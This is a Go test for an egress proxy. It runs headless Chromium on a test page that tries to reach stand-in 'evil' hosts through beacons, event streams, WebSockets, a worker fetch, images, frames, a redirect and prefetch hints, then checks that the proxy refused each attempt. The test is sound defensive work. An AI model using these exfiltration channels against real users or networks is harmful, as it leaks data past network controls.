// SPDX-License-Identifier: Apache-2.0

package egress

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// chromium is the browser itself, not the launcher script of the machine.
const chromium = "/usr/lib/chromium/chromium"

// A real browser with a page that tries every way out. It runs without any
// policy: the proxy alone decides.
func TestChromiumGetsNowhereElse(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a browser")
	}
	if _, err := os.Stat(chromium); err != nil {
		t.Skipf("no Chromium here: %v", err)
	}
	// What is not listed, on this machine: it must not hear a thing.
	outside, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	heard := 0
	go func() {
		for {
			c, err := outside.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			heard++
			mu.Unlock()
			c.Close()
		}
	}()
	defer outside.Close()
	_, port, _ := net.SplitHostPort(outside.Addr().String())

	asked := map[string]bool{}
	saw := make(chan string, 1) // what the page says of its attempts
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked[r.URL.Path] = true
		mu.Unlock()
		if r.URL.Path == "/ws" {
			conn, _ := shake(w, r)
			conn.Close()
			return
		}
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/":
			bad := "evil.localhost:" + port
			fmt.Fprintf(w, `<!doctype html><title>x</title><link rel=dns-prefetch href="//prefetch.evil.example"><link rel=preconnect href="//127.0.0.1:%[2]s">
			<link rel=stylesheet href="http://%[1]s/css"><img src="http://%[1]s/img"><img src="http://127.0.0.1:%[2]s/img"><iframe src="http://%[1]s/frame"></iframe>
			<img src="/redirect"><script>
			const out = [];
			const tried = (name, p) => p.then(() => out.push(name + ' through'), () => out.push(name + ' refused'));
			const socket = u => new Promise((y, n) => { const w = new WebSocket(u); w.onopen = y; w.onerror = n; });
			navigator.sendBeacon('http://%[1]s/beacon', 'x'); new EventSource('http://%[1]s/events');
			const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://%[1]s/worker',{mode:'no-cors'}).catch(()=>0).then(()=>postMessage(1))"])));
			Promise.allSettled([
				tried('listed', fetch('/listed')),
				tried('listed socket', socket('ws://' + location.host + '/ws')),
				tried('socket', socket('ws://%[1]s/ws')), tried('own port', socket('ws://127.0.0.1:%[2]s/ws')),
				new Promise(y => worker.onmessage = y),
			]).then(() => fetch('/done', {method: 'POST', body: out.sort().join(', ')}));
			</script>`, bad, port)
		case "/done":
			out, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
			select {
			case saw <- string(out):
			default:
			}
		case "/redirect":
			http.Redirect(w, r, "http://evil.localhost:"+port+"/redirected", http.StatusFound)
		}
	}))
	defer s.Close()
	p, proxy := startProxy(t, Options{Allowed: []string{"form.localhost:" + strings.Split(host(t, s), ":")[1]}})

	profile, err := os.MkdirTemp("", "egress")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(profile)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium, "--headless", "--user-data-dir="+profile, "--disable-gpu", "--no-first-run", "--disable-component-update",
		"--disable-background-networking", "--disable-sync", "--disable-quic",
		"--proxy-server="+proxy.String(), "--proxy-bypass-list=<-loopback>", "http://form.localhost:"+strings.Split(host(t, s), ":")[1]+"/")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Env = []string{"HOME=" + profile, "PATH=/usr/bin:/bin", "DBUS_SESSION_BUS_ADDRESS=disabled:"}
	if os.Geteuid() == 0 { // Chromium keeps its sandbox only as an ordinary user
		const uid = 61998
		if err := os.Chown(profile, uid, uid); err != nil {
			t.Fatal(err)
		}
		cmd.SysProcAttr.Credential = &syscall.Credential{Uid: uid, Gid: uid}
	}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var out string
	select {
	case out = <-saw:
	case <-ctx.Done():
		t.Error("the page did not come to its end")
	}
	// Pictures and frames that nobody waits for are refused in their own time.
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		mu.Lock()
		all := asked["/redirect"]
		mu.Unlock()
		if denied := p.Denied(); all && denied["evil.localhost"] >= 6 && denied["127.0.0.1"] >= 2 {
			break
		}
	}
	syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
	cmd.Wait() // it was killed
	if want := "listed socket through, listed through, own port refused, socket refused"; out != want {
		t.Errorf("the page saw %q, want %q", out, want)
	}
	mu.Lock()
	defer mu.Unlock()
	if !asked["/"] || !asked["/listed"] || !asked["/redirect"] {
		t.Errorf("the listed host was asked for %v only", asked)
	}
	if heard != 0 {
		t.Errorf("%d connections left past the proxy", heard)
	}
	denied := p.Denied()
	if denied["evil.localhost"] < 6 || denied["127.0.0.1"] < 2 {
		t.Errorf("denied %v", denied)
	}
	t.Logf("denied %v", denied)
}
